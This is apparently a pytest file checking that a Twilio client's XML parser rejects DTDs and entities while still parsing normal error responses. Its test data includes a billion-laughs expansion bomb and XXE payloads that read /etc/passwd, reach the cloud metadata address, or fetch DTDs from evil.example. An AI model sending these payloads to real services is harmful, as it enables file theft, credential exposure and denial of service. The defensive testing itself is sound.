"""Safe XML parsing (twilio_async.xml): DTDs and entities are refused before expansion."""

from __future__ import annotations

import time
import tracemalloc
import xml.etree.ElementTree as ET

import pytest

from twilio_async.xml import UnsafeXMLError, parse_rest_exception, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<TwilioResponse><RestException><Message>&lol9;</Message></RestException></TwilioResponse>
"""

TWILIO_RESPONSE = b"""<?xml version="1.0" encoding="UTF-8"?>
<TwilioResponse>
  <RestException>
    <Code>20404</Code>
    <Message>The requested resource was not found</Message>
    <MoreInfo>https://www.twilio.com/docs/errors/20404</MoreInfo>
    <Status>404</Status>
  </RestException>
</TwilioResponse>
"""


def test_billion_laughs_is_refused_quickly_and_in_little_memory() -> None:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(UnsafeXMLError):
            parse_xml(BILLION_LAUGHS)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 5 * 1024 * 1024
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize(
    "body",
    [
        b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>',
        b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/">]><r>&xxe;</r>',
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>',
        b'<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>',
        b'<!DOCTYPE r [<!ENTITY u SYSTEM "http://evil.example/x" NDATA gif>]><r/>',
        b"<!DOCTYPE r><r/>",
    ],
    ids=["file-entity", "http-entity", "parameter-entity", "external-dtd", "unparsed", "bare"],
)
def test_doctypes_and_external_entities_are_refused(body: bytes) -> None:
    with pytest.raises(UnsafeXMLError):
        parse_xml(body)


def test_an_undeclared_entity_reference_is_a_parse_error() -> None:
    with pytest.raises(ET.ParseError):
        parse_xml(b"<r>&xxe;</r>")


@pytest.mark.parametrize("body", [b"<r>", b"not xml", b"<a></b>", b""])
def test_malformed_xml_raises_et_parse_error(body: bytes) -> None:
    with pytest.raises(ET.ParseError):
        parse_xml(body)


def test_unsafe_xml_error_is_a_value_error() -> None:
    assert issubclass(UnsafeXMLError, ValueError)


def test_a_normal_twilio_response_parses() -> None:
    root = parse_xml(TWILIO_RESPONSE)
    assert root.tag == "TwilioResponse"
    assert root.findtext("RestException/Code") == "20404"
    assert root.findtext("RestException/Message") == "The requested resource was not found"


def test_predefined_and_character_entities_still_work() -> None:
    root = parse_xml(b"<r a='x&amp;y'>&lt;&#43;&#x31;&gt;</r>")
    assert root.text == "<+1>"
    assert root.get("a") == "x&y"


def test_rest_exception_fields() -> None:
    assert parse_rest_exception(TWILIO_RESPONSE) == {
        "code": 20404,
        "message": "The requested resource was not found",
        "more_info": "https://www.twilio.com/docs/errors/20404",
        "details": None,
        "status": 404,
    }


def test_bare_rest_exception_root() -> None:
    fields = parse_rest_exception(b"<RestException><Code>20003</Code></RestException>")
    assert fields["code"] == 20003
    assert fields["message"] is None


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, b"<html><body>502</body></html>", b"<broken", b"<TwilioResponse/>"]
)
def test_rest_exception_of_unsafe_or_foreign_xml_is_empty(body: bytes) -> None:
    assert parse_rest_exception(body) == {}
